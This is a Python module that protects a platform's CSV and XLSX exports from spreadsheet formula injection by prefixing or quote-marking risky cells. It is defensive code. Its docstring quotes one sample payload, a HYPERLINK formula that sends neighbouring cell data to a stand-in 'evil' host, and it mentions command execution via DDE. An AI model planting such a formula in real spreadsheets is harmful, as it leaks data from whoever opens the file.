"""Cells of the CSV and XLSX files the platform writes, safe from spreadsheet formula injection.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` (and, in some, a TAB or a carriage
return before one) as a formula: `=HYPERLINK("http://evil/?"&A1;"Нажмите")` in an applicant's job title would
leak the neighbouring cells or run a command through DDE on the organiser's computer. Every cell whose text a
person typed (names, workplaces, reasons, spheres, city names) goes through this module:

- CSV (`csv_cell`): such text gets a leading apostrophe, which Excel and LibreOffice read as "this is text"
  and do not show (OWASP's advice); numbers and booleans written by the platform are left as they are.
- XLSX (`xlsx_append`): such text is stored as a string cell with the quote-prefix style: the file holds no
  formula, the reader sees the text unchanged, and editing the cell keeps it text.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# The ASCII triggers, their full-width forms (LibreOffice takes some of them as operators) and the control
# characters that some programs skip before looking for a formula.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def formula_like(value: Any) -> bool:
    """True for text a spreadsheet program could run as a formula."""
    if not isinstance(value, str) or not value:
        return False
    stripped = value.lstrip(" ")
    return bool(stripped) and (stripped[0] in FORMULA_TRIGGERS or value[0] in FORMULA_TRIGGERS)


def csv_cell(value: Any) -> Any:
    """A value for `csv.writer`: formula-like text is prefixed with an apostrophe; anything else unchanged."""
    if formula_like(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(value) for value in values]


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet with every formula-like text stored as plain text.

    openpyxl turns a string starting with `=` into a formula cell; this undoes that and marks the cell
    quote-prefixed (shown without the apostrophe, kept as text when edited)."""
    values = list(values)
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if formula_like(value):
            cell = sheet.cell(row=row, column=column)
            cell.value = value
            cell.data_type = "s"
            cell.quotePrefix = True
